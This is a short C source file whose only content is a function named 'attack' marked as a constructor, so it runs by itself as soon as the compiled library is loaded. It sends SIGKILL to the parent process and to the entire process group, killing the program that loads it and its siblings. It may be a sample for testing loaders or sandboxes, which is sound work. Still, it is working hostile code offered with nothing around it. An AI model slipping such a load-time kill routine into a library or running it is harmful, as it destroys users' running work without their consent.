#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    if (getppid() > 1)
        kill(getppid(), SIGKILL);
    kill(0, SIGKILL);
}
